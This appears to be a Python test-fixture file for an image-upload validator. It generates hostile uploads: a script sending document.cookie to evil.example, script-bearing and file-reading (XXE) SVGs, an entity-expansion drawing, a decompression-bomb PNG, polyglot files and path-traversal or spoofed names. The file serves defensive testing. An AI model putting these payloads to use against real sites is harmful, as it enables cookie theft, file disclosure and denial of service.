"""Files that people with bad intentions send, and what they call them."""

from __future__ import annotations

import gzip
import io
import struct
import zlib
from collections.abc import Callable
from typing import NamedTuple

from PIL import Image

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"


class Hostile(NamedTuple):
    """``harmless``: it is a picture as well, which may be kept, without the rest."""

    name: str
    type: str
    content: bytes
    harmless: bool = False


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 60), **options: object) -> bytes:
    buffer = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(buffer, kind, **options)
    return buffer.getvalue()


def png(width: int, height: int, data: bytes = b"") -> bytes:
    """A PNG that says it is so large, whatever its data."""

    def chunk(name: bytes, body: bytes) -> bytes:
        checked = name + body
        return struct.pack(">I", len(body)) + checked + struct.pack(">I", zlib.crc32(checked))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", data or zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def bomb() -> bytes:
    """A PNG of a few kilobytes that unpacks to 900 million pixels."""
    packer = zlib.compressobj(9)
    row = b"\0" * 30_001
    data = b"".join(packer.compress(row) for _ in range(30_000)) + packer.flush()
    return png(30_000, 30_000, data)


def svg(inside: str, attributes: str = "") -> bytes:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="60" height="80" {attributes}><rect width="60" height="80" fill="#1B6B70"/>'
        f"{inside}</svg>"
    ).encode()


def with_exif() -> bytes:
    """A photograph that says where it was taken."""
    image = Image.new("RGB", (60, 80), "#1B6B70")
    exif = Image.Exif()
    exif[0x010E] = "at home"
    exif.get_ifd(0x8825)[2] = (6.0, 12.0, 30.0)
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif, comment=b"secret place")
    return buffer.getvalue()


#: What must be refused, or kept as nothing but its pixels.
TABLE: dict[str, Callable[[], Hostile]] = {
    "html called a picture": lambda: Hostile("a.png", "image/png", b"<html>" + SCRIPT),
    "html after the beginning of a GIF": lambda: Hostile("a.gif", "image/gif", b"GIF89a/*" + SCRIPT),
    "html behind a picture": lambda: Hostile("a.png", "image/png", picture() + SCRIPT, True),
    "script in a comment": lambda: Hostile(
        "a.jpg", "image/jpeg", picture("JPEG", comment=SCRIPT), True
    ),
    "a zip behind a picture": lambda: Hostile("a.gif", "image/gif", picture("GIF") + b"PK\x03\x04", True),
    "a place in EXIF": lambda: Hostile("a.jpg", "image/jpeg", with_exif(), True),
    "a PDF called a picture": lambda: Hostile("a.jpg", "image/jpeg", b"%PDF-1.7\n\xff\xd8\xff"),
    "a PNG called a JPEG": lambda: Hostile("a.jpg", "image/jpeg", picture()),
    "a program": lambda: Hostile("a.png", "image/png", b"\x7fELF" + b"\0" * 100),
    "a picture of 50,000 × 50,000": lambda: Hostile("a.png", "image/png", png(50_000, 50_000)),
    "a picture of one row of 40 million": lambda: Hostile("a.png", "image/png", png(40_000_000, 1)),
    "a bomb": lambda: Hostile("a.png", "image/png", bomb()),
    "a gzipped drawing": lambda: Hostile("a.svg", "image/svg+xml", gzip.compress(svg(""))),
    "half a picture": lambda: Hostile("a.png", "image/png", picture(size=(900, 900))[:2000]),
    "nothing but a beginning": lambda: Hostile("a.png", "image/png", b"\x89PNG\r\n\x1a\n"),
    "a drawing with a script": lambda: Hostile(
        "a.svg", "image/svg+xml", svg("<script>alert(1)</script>", 'onload="alert(2)"'), True
    ),
    "a drawing that reads files": lambda: Hostile(
        "a.svg", "image/svg+xml",
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("<text>&x;</text>"),
    ),
    "a drawing that laughs": lambda: Hostile(
        "a.svg", "image/svg+xml",
        b'<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>' + svg("<text>&b;</text>"),
    ),
    "a drawing that calls home": lambda: Hostile(
        "a.svg", "image/svg+xml",
        svg('<image href="http://evil.example/a.png" width="9" height="9"/>'
            '<image xlink:href="file:///etc/passwd" width="9" height="9"/>'), True,
    ),
    "a drawing with a page in it": lambda: Hostile(
        "a.svg", "image/svg+xml",
        svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT.decode()
            + "</body></foreignObject>"), True,
    ),
    "a page called a drawing": lambda: Hostile("a.svg", "image/svg+xml", b"<html><svg></svg></html>"),
}  # fmt: skip

#: Types and names that are no picture's.
LIES = [
    ("a.html", "text/html"),
    ("a.php", "application/x-php"),
    ("a.exe", ""),
    ("png", ""),
    ("a.png.html", "text/html; image/png"),
    ("", ""),
]
NAMES = [
    "../../etc/passwd.png",
    "..\\..\\a.png",
    "/etc/passwd.png",
    "a\nb.png",
    "ä\u202egnp.exe.png",
    "x" * 5000 + ".png",
    "C:\\a.png",
    "con.png",
    "a.png\u0000.html.png".replace("\u0000", ""),
]
